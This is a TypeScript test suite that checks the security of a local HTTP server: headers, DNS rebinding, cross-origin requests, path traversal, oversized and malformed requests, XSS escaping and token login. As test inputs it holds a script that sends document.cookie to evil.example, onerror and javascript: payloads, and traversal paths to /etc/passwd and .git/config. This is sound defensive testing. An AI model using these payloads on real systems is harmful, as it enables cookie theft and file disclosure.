import { spawn } from 'node:child_process'
import { once } from 'node:events'
import { mkdirSync, rmSync, writeFileSync } from 'node:fs'
import { connect } from 'node:net'
import { join } from 'node:path'
import { pathToFileURL } from 'node:url'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { addressOf } from '../src/interfaces/contract/index.ts'
import { ROOT, rapporteur } from './cli.ts'
import { listen, listening, type Served, send, served } from './desk-fixture.ts'
import { type OwnDossier, ownDossier } from './made-dossiers.ts'

const TOKEN = 'a-long-enough-token-of-32-letters'
const JSON_TYPE = { 'content-type': 'application/json' }

let dossier: OwnDossier
let server: Served

beforeAll(async () => {
  dossier = await ownDossier()
  server = await served(dossier.folder)
})

afterAll(async () => {
  expect(await server?.stop()).toEqual({ code: 0, stderr: '' })
  dossier?.remove()
})

/** Writes bytes as they are, and gives what came back until the server closed, or had answered to the end. */
async function exchange(port: number, words: string): Promise<string> {
  const socket = connect(port, '127.0.0.1')
  let reply = ''
  socket.setEncoding('utf8').on('data', (part) => {
    reply += part
    const [head, body] = reply.split(/\r\n\r\n(.*)/s)
    const length = /^content-length: (\d+)$/im.exec(head!)?.[1]
    if (length !== undefined && Buffer.byteLength(body ?? '') >= Number(length)) socket.destroy()
  })
  socket.on('error', () => {})
  socket.write(words)
  await once(socket, 'close')
  return reply
}

const host = (): string => `127.0.0.1:${server.port}`

describe('the server', () => {
  it.each(['/', '/api', '/api/dossier', '/api/nothing', '/nothing.js', '/api/claims?kind=wizard', '/claims'])(
    '%s has all the headers that keep a browser in bounds',
    async (path) => {
      const { headers } = await send(server.port, path, { headers: { accept: 'text/html' } })
      const policy = headers['content-security-policy'] as string
      expect(policy).toContain("default-src 'none'")
      expect(policy).toContain("script-src 'self';")
      expect(policy).toContain("frame-ancestors 'none'")
      expect(policy).not.toMatch(/script-src[^;]*unsafe|unsafe-eval|\*/)
      expect(headers).toMatchObject({ 'x-content-type-options': 'nosniff', 'referrer-policy': 'no-referrer' })
      expect(headers).not.toHaveProperty('access-control-allow-origin')
      expect(headers).not.toHaveProperty('x-powered-by')
    },
  )

  it.each([
    'evil.example',
    'evil.example:80',
    '127.0.0.1',
    '127.0.0.1:1',
    'localhost.evil.example',
    '127.0.0.1.nip.io',
    '0.0.0.0',
    '[::2]',
  ])('is not %s (DNS rebinding)', async (name) => {
    const withPort = name.includes(':') ? name : name === '127.0.0.1' ? name : `${name}:${server.port}`
    for (const path of ['/', '/api/dossier', '/api/events']) {
      const { status, body } = await send(server.port, path, { headers: { host: withPort } })
      expect(status).toBe(421)
      expect(body).not.toContain('Sorrel')
    }
  })

  it.each(['localhost', '127.0.0.1', '[::1]', 'LOCALHOST'])('is %s', async (name) => {
    expect((await send(server.port, '/api/dossier', { headers: { host: `${name}:${server.port}` } })).status).toBe(200)
  })

  it.each(['a b', 'x@127.0.0.1', '127.0.0.1/x', 'http://x'])('refuses "%s" for a host', async (name) => {
    expect([400, 421]).toContain((await send(server.port, '/api/dossier', { headers: { host: name } })).status)
  })

  it('must be called by its name', async () => {
    expect(await exchange(server.port, 'GET /api/dossier HTTP/1.0\r\n\r\n')).toMatch(/^HTTP\/1\.1 400 /)
    expect(await exchange(server.port, 'GET /api/dossier HTTP/1.1\r\nHost:\r\nConnection: close\r\n\r\n')).toMatch(
      /^HTTP\/1\.1 400 /,
    )
  })

  it('answers no page of another site', async () => {
    const { claims } = JSON.parse((await send(server.port, '/api/status')).body)
    const strangers: Record<string, string>[] = [
      { origin: 'http://evil.example' },
      { origin: `http://127.0.0.1:${server.port + 1}` },
      { origin: `http://localhost:${server.port}` },
      { origin: 'null' },
      { 'sec-fetch-site': 'cross-site' },
      { 'sec-fetch-site': 'same-site', 'sec-fetch-mode': 'no-cors' },
      { 'sec-fetch-site': 'cross-site', 'sec-fetch-mode': 'navigate', 'sec-fetch-dest': 'iframe' },
    ]
    for (const headers of strangers) {
      expect((await send(server.port, '/api/dossier', { headers })).status).toBe(403)
      const body = JSON.stringify({ text: 'Ove Lund said that the toll was gone.' })
      const post = { method: 'POST', headers: { ...headers, ...JSON_TYPE }, body }
      expect((await send(server.port, '/api/documents', post)).status).toBe(403)
    }
    const form = { origin: 'http://evil.example', 'content-type': 'text/plain' }
    expect((await send(server.port, '/api/documents', { method: 'POST', headers: form, body: '{}' })).status).toBe(403)
    expect(JSON.parse((await send(server.port, '/api/status')).body).claims).toBe(claims)
    const own = { origin: `http://${host()}`, 'sec-fetch-site': 'same-origin' }
    expect((await send(server.port, '/api/dossier', { headers: own })).status).toBe(200)
    const link = { 'sec-fetch-site': 'cross-site', 'sec-fetch-mode': 'navigate', 'sec-fetch-dest': 'document' }
    expect((await send(server.port, '/api', { headers: link })).status).toBe(200)
  })

  it.each([
    '/../package.json',
    '/..%2fpackage.json',
    '/%2e%2e/package.json',
    '/%2e%2e%2fpackage.json',
    '/assets/../../package.json',
    '/assets/..%5c..%5cpackage.json',
    '/....//package.json',
    '//etc/passwd',
    '/.git/config',
    '/%00',
    '/index.html%00.js',
    '/assets/%252e%252e/x.js',
    `/${'a'.repeat(5000)}.js`,
  ])('no way leads out of the pages: %s', async (path) => {
    const { status, body } = await send(server.port, path)
    expect([400, 404]).toContain(status)
    expect(body).not.toMatch(/"devDependencies"|root:|\[core\]/)
  })

  it('takes no more than it can hold', async () => {
    const head = `POST /api/documents HTTP/1.1\r\nHost: ${host()}\r\nContent-Type: application/json\r\n`
    const declared = await exchange(server.port, `${head}Content-Length: 1000000000000\r\n\r\n{"text":"`)
    expect(declared).toMatch(/^HTTP\/1\.1 413 /)
    expect(declared).toContain('rapporteur add')
    // In chunks, nothing tells beforehand how long it will be.
    const mebibyte = 2 ** 20
    const chunk = `${mebibyte.toString(16)}\r\n${'x'.repeat(mebibyte)}\r\n`
    expect(await exchange(server.port, `${head}Transfer-Encoding: chunked\r\n\r\n${chunk.repeat(17)}`)).toMatch(
      /^HTTP\/1\.1 413 /,
    )
    expect((await send(server.port, '/api/dossier', { headers: { 'x-long': 'x'.repeat(20_000) } })).status).toBe(431)
    expect((await send(server.port, '/api/dossier')).status).toBe(200)
  })

  it.each([
    '\x00\x01\x02\r\n\r\n',
    'GET\r\n\r\n',
    'GET / HTTP/9.9\r\n\r\n',
    'POST /api/documents HTTP/1.1\r\nHost: x\r\nContent-Length: 1\r\nTransfer-Encoding: chunked\r\n\r\n',
  ])('refuses what is no HTTP: %j', async (words) => {
    const reply = await exchange(server.port, words)
    expect(reply).toMatch(/^HTTP\/1\.1 4\d\d /)
    expect(reply).toContain('application/problem+json')
  })

  it('is no proxy, and no other host by the first line of a request', async () => {
    const elsewhere = `Host: ${host()}\r\nConnection: close\r\n\r\n`
    const other = await exchange(server.port, `GET http://evil.example/api/status HTTP/1.1\r\n${elsewhere}`)
    expect(other).toMatch(/^HTTP\/1\.1 421 /)
    expect(other).not.toContain('"documents"')
    expect(await exchange(server.port, `GET http://${host()}/api/status HTTP/1.1\r\n${elsewhere}`)).toMatch(
      /^HTTP\/1\.1 200 /,
    )
    const tunnel = await exchange(server.port, `CONNECT evil.example:443 HTTP/1.1\r\n${elsewhere}`)
    expect(tunnel).toMatch(/^HTTP\/1\.1 405 /)
    expect(tunnel).toContain('application/problem+json')
  })

  it.each([
    ['OPTIONS * HTTP/1.1', '', 400],
    ['GET /..\\..\\package.json HTTP/1.1', '', 400],
    ['GET ?x HTTP/1.1', '', 400],
    ['GET /api/status HTTP/1.1', 'Expect: 200-ok\r\n', 417],
  ])('says what is wrong with %j', async (first, header, status) => {
    const reply = await exchange(server.port, `${first}\r\nHost: ${host()}\r\n${header}Connection: close\r\n\r\n`)
    expect(reply).toMatch(new RegExp(`^HTTP/1\\.1 ${status} `))
    expect(reply).toMatch(/^content-type: application\/problem\+json/im)
    expect(reply).toMatch(/^content-security-policy: default-src 'none'/im)
    const told = /\{"type".*\}/s.exec(reply)?.[0]
    expect(JSON.parse(told!)).toMatchObject({ status, detail: expect.stringMatching(/.{20}/) })
  })

  it('keeps no place for whoever asks for the head of its events alone', async () => {
    const { headers, status } = await send(server.port, '/api/events', { method: 'HEAD' })
    expect([status, headers['content-type']]).toEqual([200, 'text/event-stream'])
    // More than it has places for.
    for (let i = 0; i < 1100; i += 50)
      await Promise.all(Array.from({ length: 50 }, () => send(server.port, '/api/events', { method: 'HEAD' })))
    const page = await fetch(`${server.origin}/api/events`)
    expect(page.status).toBe(200)
    await page.body?.cancel()
  })

  it('is not held up by requests that never end', async () => {
    const door = pathToFileURL(join(ROOT, 'build/src/interfaces/http/index.js')).href
    const script = `
      const { serve } = await import(${JSON.stringify(door)})
      const dossier = { name: 'x', description: null, parties: [], issues: [], outlets: [], families: [], feeds: [], prices: [] }
      const setting = { ledger: ${JSON.stringify(join(dossier.folder, 'slow.sqlite'))}, dossier, parties: [], outlets: [], codebook: { parties: [], issues: [] }, analyst: 'x', readers: 1 }
      const serving = await serve({ path: setting.ledger, read: () => setting }, { port: 0, host: '127.0.0.1', token: null, onFault: (e) => console.error(e), headersTimeout: 1000, requestTimeout: 1500 })
      console.log(serving.address)
      process.on('SIGINT', () => serving.close())
    `
    const program = join(dossier.folder, 'slow.mjs')
    writeFileSync(program, script)
    const slow = await listening(spawn(process.execPath, [program]))
    const beginnings = [
      'GET /api/dossier HTTP/1.1\r\nHost: 127.0.0.1\r\n',
      `POST /api/documents HTTP/1.1\r\nHost: 127.0.0.1:${slow.port}\r\nContent-Type: application/json\r\nContent-Length: 100\r\n\r\n{"text"`,
    ]
    const replies = beginnings.map((beginning) => exchange(slow.port, beginning))
    expect((await send(slow.port, '/api/dossier')).status).toBe(200)
    for (const reply of await Promise.all(replies)) expect(reply).toMatch(/^HTTP\/1\.1 408 /)
    expect(await slow.stop()).toMatchObject({ code: 0 })
  })
})

describe('what a document says', () => {
  const script = '<script>fetch("//evil.example/"+document.cookie)</script>'

  it('stays words, be it in a title, a text, an address, a name of a file, or a feed', async () => {
    const page = await listen(server.origin)
    try {
      const form = new FormData()
      const text = `${script} Ove Lund, the harbour master, said on Friday that <img src=x onerror=alert(1)> the toll would be gone.`
      form.append(
        'files',
        new Blob([
          `${JSON.stringify({ id: script, title: script, outlet: `</title>${script}`, url: 'javascript:alert(1)', byline: script, text })}\n`,
        ]),
        'a.jsonl',
      )
      form.append('files', new Blob([text]), `../../${script}.txt`)
      form.append(
        'files',
        new Blob([
          `<rss version="2.0"><channel><title>Feed ${script.replaceAll('<', '&lt;')}</title><item><guid>1</guid><title><![CDATA[${script}]]></title><link>javascript:alert(1)</link><description><![CDATA[<p>Ina Berg said on Sunday that the ferry would sail again in the spring, and that nobody had asked her. ${script}</p>]]></description></item></channel></rss>`,
        ]),
        'feed.xml',
      )
      const response = await fetch(`${server.origin}${addressOf('upload', {})}`, { method: 'POST', body: form })
      const { id } = (await response.json()) as { id: string }
      await page.until(
        ({ event, job }) =>
          event === 'job' &&
          (job as { id: string; ended: unknown }).id === id &&
          (job as { ended: unknown }).ended !== null,
      )
      const { body, headers } = await send(server.port, '/api/documents?limit=10')
      expect(headers['content-type']).toBe('application/json')
      const { rows } = JSON.parse(body)
      expect(rows.length).toBeGreaterThan(1)
      expect(rows.map((row: { article: { title: string } }) => row.article.title)).toContain(script)
      for (const { article } of rows) {
        expect(article.url === null || /^https?:/.test(article.url)).toBe(true)
        const shown = await send(server.port, `/api/documents/${article.document}`)
        expect(shown.headers['content-type']).toBe('application/json')
        for (const { arrivals } of JSON.parse(shown.body).appearances) {
          for (const { raw, from } of arrivals) {
            expect(from).not.toContain('..')
            const bytes = await send(server.port, `/api/documents/${article.document}/raw/${raw}`)
            expect(bytes.headers).toMatchObject({
              'content-type': 'application/octet-stream',
              'content-disposition': expect.stringMatching(/^attachment; filename="[0-9a-f]{10}\.\w+"$/),
              'content-security-policy': "default-src 'none'; sandbox",
            })
          }
        }
      }
    } finally {
      page.close()
    }
  })

  it('of a request is told back as data alone', async () => {
    const path = `/api/claims?kind=${encodeURIComponent(script)}`
    const { headers, body } = await send(server.port, path, { headers: { accept: 'text/html' } })
    expect(headers['content-type']).toBe('application/problem+json')
    expect(JSON.parse(body).fields[0].value).toBe(script)
    const lost = await send(server.port, `/${encodeURIComponent(script)}`, { headers: { accept: 'text/html' } })
    expect(lost.headers['content-type']).not.toContain('html')
  })
})

describe('another host', () => {
  it('needs a token that nobody guesses', async () => {
    const without = await rapporteur(['serve', '--host', '0.0.0.0', '--port', '0', '--dossier', dossier.folder])
    expect(without).toMatchObject({ code: 1, stdout: '', stderr: expect.stringContaining('give a --token') })
    const short = await rapporteur(['serve', '--token', 'hunter2', '--port', '0', '--dossier', dossier.folder])
    expect(short).toMatchObject({ code: 1, stderr: expect.stringContaining('at least 16') })
  })

  it('lets in who has it, by header, by address, by form, and then by a cookie', async () => {
    const guarded = await served(dossier.folder, [], { RAPPORTEUR_TOKEN: TOKEN })
    const { port } = guarded
    const asked = async (path: string, headers: Record<string, string> = {}) => send(port, path, { headers })
    try {
      for (const path of [
        '/',
        '/api',
        '/api/dossier',
        '/api/events',
        '/api/openapi.json',
        `/?token=${TOKEN}x`,
        '/?token=',
      ]) {
        const { status, body, headers } = await asked(path)
        expect([path, status]).toEqual([path, 401])
        expect(body).not.toContain('Sorrel')
        expect(headers['set-cookie']).toBeUndefined()
      }
      const guesses: Record<string, string>[] = [
        { authorization: `Bearer ${TOKEN}x` },
        { cookie: 'rapporteur=x' },
        { cookie: `rapporteur=${TOKEN}` },
      ]
      for (const headers of guesses) expect((await asked('/api/dossier', headers)).status).toBe(401)
      expect((await asked('/api/dossier', { authorization: `Bearer ${TOKEN}` })).status).toBe(200)
      const told = JSON.parse((await asked('/api/openapi.json', { authorization: `Bearer ${TOKEN}` })).body)
      expect(told.security).toEqual([{ token: [] }, { cookie: [] }])

      const first = await asked(`/claims?kind=named&token=${TOKEN}`)
      expect(first).toMatchObject({ status: 303, headers: { location: '/claims?kind=named' } })
      const [cookie] = first.headers['set-cookie'] as string[]
      expect(cookie).toMatch(/; HttpOnly; SameSite=Strict; Path=\//)
      expect(cookie).not.toContain(TOKEN)
      const pair = cookie!.split(';')[0]!
      expect((await asked('/api/dossier', { cookie: `other=1; ${pair}` })).status).toBe(200)
      expect((await asked(`//evil.example/?token=${TOKEN}`)).headers.location).not.toMatch(/^\/\//)

      const page = await asked('/', { accept: 'text/html' })
      expect(page).toMatchObject({ status: 401, body: expect.stringContaining('<form method="post" action="/token">') })
      const form = { 'content-type': 'application/x-www-form-urlencoded', origin: `http://127.0.0.1:${port}` }
      const wrong = await send(port, '/token', { method: 'POST', headers: form, body: 'token=wrong' })
      expect(wrong).toMatchObject({ status: 401, body: expect.stringContaining('not it') })
      const right = await send(port, '/token', { method: 'POST', headers: form, body: `token=${TOKEN}` })
      expect(right.status).toBe(303)
      expect(right.headers['set-cookie']![0]).toContain(pair)
      const strange = await send(port, '/token', {
        method: 'POST',
        headers: { ...form, origin: 'http://evil.example' },
        body: `token=${TOKEN}`,
      })
      expect(strange.status).toBe(403)
    } finally {
      expect(await guarded.stop()).toMatchObject({ code: 0, stderr: '' })
    }
  })
})

describe('pages', () => {
  it('are files of one folder, packed as the browser likes, and kept for good where their names change with them', async () => {
    const folder = join(dossier.folder, 'pages')
    mkdirSync(join(folder, 'assets'), { recursive: true })
    writeFileSync(join(folder, 'index.html'), '<!doctype html><title>Desk</title>')
    writeFileSync(join(folder, 'assets/desk-1a2b3c.js'), `console.log(${JSON.stringify('x'.repeat(5000))})`)
    writeFileSync(join(folder, 'notes.secret'), 'not for the web')
    const door = pathToFileURL(join(ROOT, 'build/src/interfaces/http/index.js')).href
    const script = `
      const { serve } = await import(${JSON.stringify(door)})
      const dossier = { name: 'x', description: null, parties: [], issues: [], outlets: [], families: [], feeds: [], prices: [] }
      const setting = { ledger: ${JSON.stringify(join(dossier.folder, 'pages.sqlite'))}, dossier, parties: [], outlets: [], codebook: { parties: [], issues: [] }, analyst: 'x', readers: 1 }
      const serving = await serve({ path: setting.ledger, read: () => setting }, { port: 0, host: '127.0.0.1', token: null, onFault: (e) => console.error(e), pages: ${JSON.stringify(folder)} })
      console.log(serving.address)
      process.on('SIGINT', () => serving.close())
    `
    const program = join(dossier.folder, 'pages.mjs')
    writeFileSync(program, script)
    const pages = await listening(spawn(process.execPath, [program]))
    const asked = (path: string, headers: Record<string, string> = {}) => send(pages.port, path, { headers })
    try {
      const index = await asked('/')
      expect(index).toMatchObject({
        status: 200,
        headers: { 'content-type': 'text/html; charset=utf-8', 'cache-control': 'no-cache' },
      })
      expect((await asked('/', { 'if-none-match': index.headers.etag! })).status).toBe(304)
      expect((await asked('/claims', { accept: 'text/html' })).body).toContain('<title>Desk')
      expect((await asked('/claims')).status).toBe(404)
      for (const path of ['/proposals/3b31:p1', '/proposals/3b31%3Ap1', '/proposals/3b31%3ap1'])
        expect([path, (await asked(path, { accept: 'text/html' })).status]).toEqual([path, 200])
      for (const path of [
        '/proposals/%2e%2e%2fx',
        '/proposals/%5c',
        '/proposals/%00',
        '/proposals/%253A',
        '/proposals/%3',
      ])
        expect([path, (await asked(path, { accept: 'text/html' })).status]).toEqual([path, 404])
      for (const [accepted, coding] of [
        ['gzip, deflate, br', 'br'],
        ['gzip', 'gzip'],
        ['br;q=0, gzip;q=0.5', 'gzip'],
        ['identity', undefined],
      ] as const) {
        const { status, headers } = await asked('/assets/desk-1a2b3c.js', { 'accept-encoding': accepted })
        expect([status, headers['content-encoding']]).toEqual([200, coding])
        expect(headers).toMatchObject({
          'cache-control': 'public, max-age=31536000, immutable',
          'content-type': 'text/javascript; charset=utf-8',
        })
      }
      expect((await asked('/notes.secret')).status).toBe(404)
      expect((await asked('/assets')).status).toBe(404)
      expect((await send(pages.port, '/', { method: 'POST' })).status).toBe(405)
      expect((await send(pages.port, '/', { method: 'HEAD' })).status).toBe(200)
    } finally {
      await pages.stop()
      rmSync(folder, { recursive: true })
    }
  })
})
